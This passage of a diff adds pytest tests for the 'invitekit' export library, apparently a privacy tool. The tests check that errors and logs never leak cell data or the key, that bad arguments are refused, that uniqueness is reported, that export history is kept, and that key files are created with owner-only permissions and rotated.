+    assert found["none"] > 10, found
+    ik.export(pl.read_parquet(source), target, overwrite=True)
+    assert not [path for path in target.parent.iterdir() if path.is_dir() and any(path.iterdir())]
+    assert state(target) == "whole"
+
+
+# -- what errors and logs say ----------------------------------------------------------------------
+
+
+def spoilt() -> dict[str, Any]:
+    """Records that cannot be exported, each for another reason, with somebody's data in every cell."""
+    frame = annotated()
+    with_text = frame.with_columns(age_days=pl.lit("canary.9@canary.example"))
+    con = duckdb.connect()
+    con.execute("set enable_progress_bar = false")
+    return {
+        "text for a number": with_text,
+        "text for a time": frame.with_columns(invited_at=pl.lit("call Ann Canary")),
+        "list": frame.with_columns(status=pl.Series([["Ann Canary"]] * 200)),
+        "a query that fails": con.from_arrow(frame.to_arrow()).project("* replace (email::integer as email)"),
+        "a column that nobody named": frame.with_columns(pl.lit("Ann Canary").alias("ann@canary.example")),
+        "no frame": ["Ann Canary"],
+    }
+
+
+SPOILT = (
+    "text for a number", "text for a time", "list", "a query that fails", "a column that nobody named", "no frame",
+)  # fmt: skip
+
+
+@pytest.mark.parametrize("how", SPOILT)
+def test_an_error_quotes_no_cell_and_no_key_and_leaves_nothing(
+    tmp_path: Path, caplog: pytest.LogCaptureFixture, capfd: pytest.CaptureFixture[str], how: str
+) -> None:
+    caplog.set_level(logging.DEBUG)
+    with pytest.raises(InvitekitError) as refused:
+        ik.export(spoilt()[how], tmp_path / "out.parquet", key=KEY)
+    told = "".join(traceback.format_exception(refused.value)) + caplog.text + "".join(capfd.readouterr())
+    # The traceback shows lines of this test; what is said must not come from a cell.
+    said = str(refused.value) + caplog.text + told.rpartition("InvitekitError")[2]
+    assert "Hint: " in str(refused.value)
+    assert not any(word in said for word in ("Ann Canary", "canary.", KEY.text()))
+    assert left(tmp_path) == []
+
+
+def test_a_good_export_logs_nothing_of_a_record_nor_of_the_key(
+    tmp_path: Path, caplog: pytest.LogCaptureFixture, capfd: pytest.CaptureFixture[str]
+) -> None:
+    caplog.set_level(logging.DEBUG)
+    done = ik.export(annotated(), tmp_path / "out.parquet", key=KEY)
+    told = caplog.text + "".join(capfd.readouterr()) + str(done) + repr(done)
+    assert "canary" not in told.lower()
+    assert KEY.text() not in told
+
+
+@pytest.mark.parametrize(
+    "wrong",
+    [
+        {"level": "anonymous"},
+        {"language": "fr"},
+        {"remarks": "keep"},
+        {"purpose": " "},
+        {"level": "masked", "policy": standard()},
+    ],
+)
+def test_an_argument_that_means_nothing_is_refused_before_anything_is_written(tmp_path: Path, wrong: dict) -> None:
+    with pytest.raises(ArgumentError, match="Hint: "):
+        ik.export(annotated(), tmp_path / "out.parquet", **wrong)
+    assert left(tmp_path) == []
+
+
+def test_what_load_gives_has_to_be_taken_apart_first(tmp_path: Path) -> None:
+    with pytest.raises(ArgumentError, match="pass its records"):
+        ik.export(ik.load(people()), tmp_path / "out.parquet")
+
+
+# -- who is alike ----------------------------------------------------------------------------------
+
+
+def test_the_report_says_in_words_how_many_are_unique(tmp_path: Path) -> None:
+    frame = annotated(people(9)).with_columns(
+        account_manager=pl.Series(["m1"] * 6 + ["m2"] * 3), status=pl.lit("invited")
+    )
+    done = ik.export(frame.with_columns(status=pl.Series(["invited"] * 8 + ["expired"])), tmp_path / "out.parquet")
+    assert done.alike[0].by == ("invited_month", "account_manager", "status")
+    assert (done.alike[0].records, done.alike[0].unique, done.alike[0].small, done.alike[0].smallest) == (9, 1, 3, 1)
+    assert done.alike[0].sentence().startswith("1 record is unique by month, manager and status (11.1%)")
+    assert "1 条记录是唯一的" in done.alike[0].sentence("zh")
+    assert done.alike[0].sentence() in str(done)
+
+
+# -- the history -----------------------------------------------------------------------------------
+
+
+class Kept:
+    """What a workspace has to have, and nothing more."""
+
+    def __init__(self) -> None:
+        self.noted: list[dict[str, Any]] = []
+
+    def start_export(self, **given: Any) -> int:
+        self.noted.append(given)
+        return len(self.noted) - 1
+
+    def finish_export(self, number: int, status: str, **given: Any) -> None:
+        self.noted[number] |= {"status": status} | given
+
+
+def test_the_workspace_notes_what_was_exported_and_what_was_not(tmp_path: Path) -> None:
+    kept = Kept()
+    done = ik.export(annotated(), tmp_path / "out.csv", workspace=kept, purpose="q1", key=KEY)
+    with pytest.raises(SchemaError):
+        ik.export(spoilt()["text for a time"], tmp_path / "two.csv", workspace=kept)
+    first, second = kept.noted
+    told = {"level": "pseudonymised", "purpose": "q1", "file_name": "out.csv", "key_id": KEY.id}
+    assert first == told | {"status": "completed", "rows": 200, "sha256": done.sha256}
+    assert (second["status"], second["rows"], second["key_id"]) == ("failed", None, None)
+
+
+# -- keys ------------------------------------------------------------------------------------------
+
+
+@pytest.fixture
+def alone(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Path:
+    """A machine without a key, a keyring, or settings of its user."""
+    monkeypatch.delenv("INVITEKIT_KEY", raising=False)
+    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "settings"))
+    monkeypatch.setenv("PYTHON_KEYRING_BACKEND", "keyring.backends.fail.Keyring")
+    return tmp_path
+
+
+def test_without_a_key_each_export_has_its_own(alone: Path) -> None:
+    assert find_key().id is None
+    with pytest.raises(ArgumentError, match="key new"):
+        kept_key()
+    assert left(alone) == []
+
+
+def test_the_environment_holds_a_key(alone: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("INVITEKIT_KEY", KEY.text())
+    assert find_key().id == KEY.id
+    with pytest.raises(ArgumentError, match="INVITEKIT_KEY"):
+        rotate_key()
+    monkeypatch.setenv("INVITEKIT_KEY", "not a key")
+    with pytest.raises(ArgumentError) as refused:
+        find_key()
+    assert "not a key" not in str(refused.value)
+    assert left(alone) == []
+
+
+@pytest.mark.parametrize("named", [True, False])
+def test_a_key_file_is_its_owners_alone_and_is_never_written_over(alone: Path, named: bool) -> None:
+    file = alone / "key" if named else None
+    made, where = new_key(file)
+    path = file or alone / "settings" / "invitekit" / "key"
+    assert str(path) in where
+    assert stat.S_IMODE(path.stat().st_mode) == 0o600
+    assert kept_key(file).id == find_key(file).id == made.id
+    with pytest.raises(OutputError, match="exists already"):
+        new_key(file)
+    old, new, _ = rotate_key(file)
+    assert (old.id, kept_key(file).id) == (made.id, new.id)
+    assert kept_key(path.with_name(f"{path.name}.{old.id}")).id == old.id
+    path.chmod(0o640)
+    with pytest.raises(ArgumentError, match="read by others"):
+        find_key(file)
+
+
+def test_a_key_file_that_is_missing_or_holds_something_else_is_refused(alone: Path) -> None:
+    with pytest.raises(SourceError, match="no such file"):
+        find_key(alone / "nowhere")
+    (alone / "text").write_text("secret words")
+    (alone / "text").chmod(0o600)
+    with pytest.raises(ArgumentError) as refused:
+        find_key(alone / "text")
+    assert "secret words" not in str(refused.value)
